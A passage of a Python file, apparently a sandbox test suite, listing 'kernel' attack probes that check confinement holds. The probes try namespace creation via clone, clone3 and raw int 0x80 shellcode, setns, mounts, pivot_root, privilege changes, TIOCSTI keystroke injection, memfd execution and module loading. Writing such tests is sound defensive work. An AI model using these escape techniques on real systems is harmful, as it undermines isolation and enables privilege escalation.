pid = system("clone", 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
if pid == 0: os._exit(0)
if pid > 0: escaped("clone")
""",
    ),
    Attack(
        "makes a user namespace by clone3",
        "kernel",
        """
asked = (ctypes.c_ulonglong * 11)(0x10000000, 0, 0, 0, signal.SIGCHLD)
pid = system("clone3", asked, 64)
if pid == 0: os._exit(0)
if pid > 0: escaped("clone3")
""",
    ),
    Attack(
        "makes a user namespace by 32-bit calls",
        "kernel",
        """
if MACHINE == "x86_64":
    block = mmap.mmap(-1, 4096, prot=7)
    numbers = struct.pack("<I", 0x10000000) + b"\\xb8" + struct.pack("<I", 310)
    block.write(b"\\x53\\xbb" + numbers + b"\\xcd\\x80\\x5b\\xc3")
    address = ctypes.addressof(ctypes.c_char.from_buffer(block))
    if ctypes.CFUNCTYPE(ctypes.c_int)(address)() == 0: escaped("int 0x80")
""",
    ),
    Attack(
        "makes a user namespace by x32 calls",
        "kernel",
        """
if MACHINE == "x86_64" and libc.syscall(ctypes.c_long(272 | 0x40000000), ctypes.c_long(0x10000000)) == 0:
    escaped("x32")
""",
    ),
    Attack(
        "makes other namespaces",
        "kernel",
        "for flag in (0x20000, 0x4000000, 0x8000000, 0x40000000, 0x20000000, 0x80):"
        " system('unshare', flag) == 0 and escaped(hex(flag))",
    ),
    Attack(
        "enters namespaces",
        "kernel",
        """
for pid in ("1", str(os.getppid()), str(WORKER)):
    for kind in ("net", "mnt", "ipc", "uts", "user"):
        fd = attempt(os.open, f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        if fd is not None and libc.setns(fd, 0) == 0: escaped(f"{kind} of {pid}")
""",
    ),
    Attack(
        "mounts",
        "kernel",
        """
os.mkdir("m")
# Where it gets through, it must not be seen by whoever removes the folder.
if LEVEL != "strict" and (system("unshare", 0x20000) or libc.mount(None, b"/", None, 0x44000, None)): sys.exit()
if libc.mount(b"x", b"m", b"tmpfs", 0, None) == 0: escaped("tmpfs")
if libc.mount(b".", b"m", None, 4096, None) == 0: escaped("bind")
if system("fsopen", b"tmpfs", 0) >= 0: escaped("fsopen")
fd = system("open_tree", -100, b"/", 1)
if fd >= 0: escaped("open_tree")
""",
    ),
    Attack(
        "makes its root writable",
        "kernel",
        "if libc.mount(None, b'/', None, 32 | 4096, None) == 0: escaped('remounted')",
        strict_only=True,
    ),
    Attack(
        "unmounts",
        "kernel",
        "for place in (b'/proc', b'/tmp', b'/work', b'/'): libc.umount2(place, 2) == 0 and escaped(place)",
        strict_only=True,
    ),
    Attack(
        "pivots its root", "kernel", "if system('pivot_root', b'.', b'.') == 0: escaped('pivot_root')", strict_only=True
    ),
    Attack(
        "has capabilities",
        "kernel",
        """
status = dict(line.split(":", 1) for line in open("/proc/self/status"))
for name in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"):
    if int(status[name], 16): escaped(f"{name} {status[name].strip()}")
if status["NoNewPrivs"].strip() != "1": escaped("no_new_privs is not set")
if status["Seccomp"].strip() != "2": escaped("no filter of system calls")
""",
    ),
    Attack(
        "becomes root",
        "kernel",
        """
for action in (os.setuid, os.seteuid, os.setgid, lambda _: os.setgroups([0]), lambda _: os.setresuid(0, 0, 0)):
    if attempt(lambda: action(0) or True): escaped("root")
""",
    ),
    Attack(
        "names the host",
        "kernel",
        "name = os.uname().nodename.encode(); libc.sethostname(name, len(name)) == 0 and escaped('sethostname')",
    ),
    Attack(
        "reads the kernel's log",
        "kernel",
        "if libc.klogctl(10, None, 0) > 0 or libc.klogctl(3, ctypes.create_string_buffer(9), 9) > 0: escaped('log')",
    ),
    Attack(
        "runs a program from memory",
        "kernel",
        """
fd = system("memfd_create", b"x", 1)
if fd >= 0:
    os.write(fd, open("/usr/bin/id", "rb").read())
    if os.posix_spawn(f"/proc/self/fd/{fd}", ["id"], {}): escaped("fexecve")
""",
    ),
    Attack(
        "types into a terminal",
        "kernel",
        """
import fcntl, termios
pid = os.fork()
pid and (os.waitpid(pid, 0), os._exit(0))
os.setsid()
fd = os.open(TTY, os.O_RDWR)
for byte in TAG.encode() + b"\\n": fcntl.ioctl(fd, termios.TIOCSTI, bytes([byte]))
""",
    ),
    Attack("writes to a terminal", "kernel", "os.write(os.open(TTY, os.O_RDWR | os.O_NOCTTY), TAG.encode())"),
    Attack(
        "loads kernel modules",
        "kernel",
        "for number in (175, 313) if MACHINE == 'x86_64' else (105, 273):"
        " libc.syscall(number, -1, b'', 0) == 0 and escaped('module')",
        strict_only=True,
    ),
    Attack(
        "sets the clock",
        "kernel",
        "if attempt(lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()) or True): escaped('clock')",
        strict_only=True,
    ),
)

ATTACKS = (
    *_TIME,
    *_PROCESSES,
    *_MEMORY,
    *_DISK,
    *_OUTPUT,
    *_SECRETS,
    *_FILES,
    *_KEPT,
    *_NETWORK,
    *_KERNEL,
)
"""All of them; the names are unique."""
